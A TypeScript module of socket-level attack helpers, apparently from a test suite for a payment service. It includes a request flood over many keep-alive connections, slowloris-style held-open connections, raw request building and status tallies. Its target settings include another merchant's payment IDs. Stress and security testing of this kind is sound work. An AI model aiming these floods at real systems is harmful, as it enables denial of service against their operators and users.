/** Attacks over sockets: floods, requests that never end, and responses that are never read. */
import http from 'node:http';
import net from 'node:net';

/** Where the attack goes, and what the attacker knows. */
export interface Target {
  readonly apiUrl: string;
  readonly checkoutUrl: string;
  readonly dashboardUrl: string;
  /** The attacker's own key. */
  readonly apiKey: string;
  /** Payments of another merchant. */
  readonly foreignIds: readonly string[];
}

/** How often each status came back; `lost` counts connections that ended without one. */
export type Tally = Record<string, number>;

export interface Raid {
  readonly tally: Tally;
  /** Unix milliseconds. */
  readonly until: number;
}

export const count = ({ tally }: Raid, what: string | number): void => {
  tally[what] = (tally[what] ?? 0) + 1;
};

/** A request as bytes. */
export function request(url: string, { key = '', lines = [] as string[], body = '' } = {}): string {
  const { host, pathname, search } = new URL(url);
  const head = [
    `${body === '' && lines.length === 0 ? 'GET' : 'POST'} ${pathname}${search} HTTP/1.1`,
    `Host: ${host}`,
    ...(key === '' ? [] : [`Authorization: Bearer ${key}`]),
    ...lines,
  ];
  return `${head.join('\r\n')}\r\n\r\n${body}`;
}

export interface Sent {
  readonly url: string;
  readonly key?: string;
  readonly body?: string;
}

/** Sends one request after another on each of `lanes` connections, as fast as they are answered. */
export async function flood(raid: Raid, lanes: number, make: () => Sent): Promise<void> {
  const agent = new http.Agent({ keepAlive: true, maxSockets: lanes });
  const lane = async (): Promise<void> => {
    while (Date.now() < raid.until) count(raid, await exchange(agent, make()));
  };
  await Promise.all(Array.from({ length: lanes }, lane));
  agent.destroy();
}

async function exchange(agent: http.Agent, { url, key, body }: Sent): Promise<number | 'lost'> {
  return new Promise((resolve) => {
    const headers = {
      ...(key === undefined ? {} : { Authorization: `Bearer ${key}` }),
      ...(body === undefined ? {} : { 'Content-Type': 'application/json', 'Idempotency-Key': 'k' }),
    };
    const sent = http.request(url, { agent, headers, method: body === undefined ? 'GET' : 'POST' });
    sent.on('response', (response) => {
      response.resume().on('close', () => resolve(response.statusCode ?? 'lost'));
    });
    sent.on('error', () => resolve('lost'));
    sent.end(body);
  });
}

/** Keeps `connections` open, each of which sends `bytes` and then does what `hold` does with it. */
export async function holdOpen(
  raid: Raid,
  { url, connections }: { url: string; connections: number },
  hold: (socket: net.Socket) => void,
): Promise<void> {
  const { hostname, port } = new URL(url);
  const sockets = new Set<net.Socket>();
  const open = (): void => {
    const socket = net.connect({ host: hostname, port: Number(port) });
    sockets.add(socket);
    socket.on('error', () => undefined);
    socket.on('close', () => {
      sockets.delete(socket);
      count(raid, 'closed');
    });
    hold(socket);
  };
  const timer = setInterval(() => {
    for (let missing = connections - sockets.size; missing > 0; missing -= 1) open();
  }, 100);
  await new Promise((resolve) => setTimeout(resolve, raid.until - Date.now()));
  clearInterval(timer);
  for (const socket of sockets) socket.destroy();
}

/** Counts the statuses of what is read, and goes on reading. */
export function readStatuses(raid: Raid, socket: net.Socket): void {
  socket.setEncoding('latin1').on('data', (text: string) => {
    for (const [, status = ''] of text.matchAll(/HTTP\/1\.1 (\d{3}) /g)) count(raid, status);
  });
}
